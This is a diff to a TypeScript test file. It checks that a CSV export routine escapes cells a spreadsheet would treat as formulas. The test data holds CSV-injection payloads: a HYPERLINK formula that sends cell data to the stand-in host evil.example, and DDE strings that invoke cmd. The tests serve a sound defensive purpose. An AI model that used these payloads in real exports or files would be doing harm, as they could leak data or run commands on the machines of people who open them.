@@ -68,11 +68,44 @@ describe('CSV', () => {
       fc.property(fc.string(), fc.string(), (target, note) => {
         const text = csvHeader() + csvRow(entry({ target: { type: 'flag', id: target }, changes: { note } }));
         const [row] = parse(text, { columns: true }) as Record<string, string>[];
-        expect(row?.target_id).toBe(target);
+        expect(row?.target_id).toBe(/^[=+\-@\t\r]/.test(target) ? `'${target}` : target);
         expect(JSON.parse(row?.changes ?? '')).toEqual({ note });
       }),
     );
     expect(csvField('a,"b"')).toBe('"a,""b"""');
+  });
+
+  it('neutralises every cell a spreadsheet would read as a formula, and keeps the quoting right', () => {
+    for (const [value, written] of [
+      [
+        '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
+      ],
+      ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+      ['-2+3', "'-2+3"],
+      ['@SUM(1,2)', `"'@SUM(1,2)"`],
+      ['\t=1+1', "'\t=1+1"],
+      ['\r=1+1', `"'\r=1+1"`],
+    ] as const) {
+      expect(csvField(value), JSON.stringify(value)).toBe(written);
+    }
+    // Only the first character counts; ordinary text and our own numbers are left alone.
+    for (const value of ['a=b', 'user-1', 'x@example.com', '2026-01-02T03:04:05Z']) {
+      expect(csvField(value)).toBe(value);
+    }
+    expect(csvField(42)).toBe('42');
+    const hostile = entry({
+      actor: { id: "=cmd|' /C calc'!A0", kind: 'user' },
+      target: { type: 'member', id: '@SUM(A1:A9)' },
+      request_id: '-1-1',
+    });
+    const [row] = parse(csvHeader() + csvRow(hostile), { columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({
+      actor_id: "'=cmd|' /C calc'!A0",
+      target_id: "'@SUM(A1:A9)",
+      request_id: "'-1-1",
+      id: '1',
+    });
     expect(csvField(null)).toBe('');
     expect(csvHeader()).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
   });
